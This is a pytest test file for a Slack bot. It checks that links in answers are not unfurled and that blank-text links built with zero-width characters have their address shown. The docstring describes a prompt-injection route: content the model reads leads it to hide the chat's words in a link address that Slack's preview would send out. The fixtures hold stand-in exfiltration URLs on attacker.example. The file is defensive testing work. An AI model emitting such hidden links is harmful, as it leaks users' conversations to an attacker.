"""User stories: a link in an answer is not unfurled, and none hides. Slack fetches the links
of a bot's message for a preview at once, no one clicking (media links by default); a model
led by a page it read (or a voice note) could put the chat's words into a link's address,
even one whose words show nothing (`[\u200b](https://...)`), and send them to whoever runs
it. Such a link shows its address instead."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest
from markdown_it import MarkdownIt

from bots.slack import SlackSink
from core.testing.fake_slack import FakeSlack, app_mention_event, message_event, new_ts
from core.types import Reply, ReplyKind
from tests.bots.slack.conftest import SlackApp

CHANNEL = "C0GENERAL"
DM = "D0ALICE"
ANSWER = "Read [the setup page](https://docs.example.com/setup.png), then ask again."
SECRET_URL = "https://attacker.example/c?d=the-secret-of-the-chat"
HIDDEN = f"Done.[\u200b]({SECRET_URL}) Anything else?"
_MARKDOWN = MarkdownIt("commonmark")


def hidden_links(markdown: str) -> list[str]:
    """The addresses of the links in `markdown` (as Slack formats it) whose words are
    blank: nothing but spaces and zero-width characters."""
    found = []
    for block in _MARKDOWN.parse(markdown):
        children = block.children or []
        for index, token in enumerate(children):
            if token.type != "link_open":
                continue
            words = ""
            for inner in children[index + 1 :]:
                if inner.type == "link_close":
                    break
                words += inner.content
            if not words.replace("\u200b", "").strip():
                found.append(str(token.attrGet("href")))
    return found


def shown_by_slack(slack: FakeSlack) -> list[str]:
    """Each markdown Slack was given to format: markdown blocks, and each stream as it
    stood after every piece."""
    shown: list[str] = []
    for method in ("chat.postMessage", "chat.update"):
        for args in slack.api_arguments(method):
            blocks: Any = args.get("blocks") or []
            if isinstance(blocks, str):
                blocks = json.loads(blocks)
            shown.extend(str(b.get("text", "")) for b in blocks if b.get("type") == "markdown")
    stream = ""
    for name, args in slack.arguments:
        if name == "chat.startStream":
            stream = ""
        if name in ("chat.startStream", "chat.appendStream", "chat.stopStream"):
            stream += str(args.get("markdown_text") or "")
            shown.append(stream)
    return shown


def unfurled(slack: FakeSlack) -> list[dict[str, Any]]:
    """The posts that leave Slack free to unfurl their links (its default, for media)."""
    return [
        args
        for args in slack.api_arguments("chat.postMessage")
        if args.get("unfurl_links") is not False or args.get("unfurl_media") is not False
    ]


@pytest.mark.parametrize("where", ["channel", "dm"])
async def test_an_answer_with_a_link_is_posted_without_unfurls(
    slack_app: SlackApp, where: str
) -> None:
    slack = slack_app.slack
    slack.native_streaming = False  # posted, then edited
    slack_app.openai.reply = lambda messages: ANSWER
    if where == "channel":
        ts: str | None = new_ts()
        channel = CHANNEL
        await slack_app.post_event(app_mention_event(channel=CHANNEL, ts=ts, text="<@U0BOT> ?"))
    else:
        ts, channel = None, DM
        await slack_app.post_event(message_event(channel=DM, text="where is the guide?"))
    await slack.wait_until(lambda: bool(slack.visible(channel, ts)))
    await slack_app.adapter.drain()

    assert slack.visible_texts(channel, ts) == [ANSWER], "the link is there, to click"
    assert slack.api_arguments("chat.postMessage")
    assert unfurled(slack) == []


async def test_replies_posted_whole_are_not_unfurled_either(slack_app: SlackApp) -> None:
    slack = slack_app.slack
    sink = SlackSink(
        slack_app.adapter.client,
        channel=DM,
        thread_ts=None,
        options=slack_app.adapter.sink_options,
    )
    await sink.send(Reply(ANSWER))
    await sink.send(Reply(f"see {SECRET_URL}", kind=ReplyKind.TRANSCRIPT))

    assert len(slack.api_arguments("chat.postMessage")) == 2
    assert unfurled(slack) == []


@pytest.mark.parametrize("where", ["thread-streamed", "thread-edited", "dm"])
async def test_a_link_whose_words_show_nothing_shows_its_address(
    slack_app: SlackApp, where: str
) -> None:
    slack = slack_app.slack
    slack.native_streaming = where == "thread-streamed"
    slack_app.openai.reply = lambda messages: HIDDEN
    if where == "dm":
        ts: str | None = None
        channel = DM
        await slack_app.post_event(message_event(channel=DM, text="summarise the page"))
    else:
        ts, channel = new_ts(), CHANNEL
        await slack_app.post_event(app_mention_event(channel=CHANNEL, ts=ts, text="<@U0BOT> sum"))
    await slack.wait_until(lambda: bool(slack.visible(channel, ts)))
    await slack_app.adapter.drain()

    (answer,) = slack.visible_texts(channel, ts)
    assert SECRET_URL in answer
    assert all(hidden_links(text) == [] for text in shown_by_slack(slack))
    # The message text (notifications, older clients): the address, shown.
    for args in slack.api_arguments("chat.postMessage") + slack.api_arguments("chat.update"):
        assert f"{SECRET_URL}|" not in args["text"]
    if where == "dm":
        assert slack.api_arguments("chat.update")[-1]["text"] == (
            f"Done.<{SECRET_URL}> Anything else?"
        )


async def test_a_link_streamed_in_pieces_never_hides(slack_app: SlackApp) -> None:
    # Models stream tokens: the link arrives piece by piece, and each piece of a native
    # stream goes to Slack as soon as the pacing allows.
    slack = slack_app.slack
    ts = new_ts()
    slack.add_person_message(CHANNEL, ts, "<@U0BOT> summarise")
    sink = SlackSink(
        slack_app.adapter.client,
        channel=CHANNEL,
        thread_ts=ts,
        team_id=slack.team_id,
        user_id="U0ALICE",
        options=slack_app.adapter.sink_options,
    )
    pieces = ["Done. ", "[", "\u200b", "](https://attacker.example/c", "?d=secret", ")", " Bye."]
    async with sink.stream() as stream:
        for piece in pieces:
            await stream.append(piece)
            await asyncio.sleep(0.08)  # longer than the pause between pieces sent

    assert len(slack.api_calls("chat.appendStream")) >= 3  # it went out in pieces
    (answer,) = slack.visible_texts(CHANNEL, ts)
    assert "https://attacker.example/c?d=secret" in answer
    assert all(hidden_links(text) == [] for text in shown_by_slack(slack))
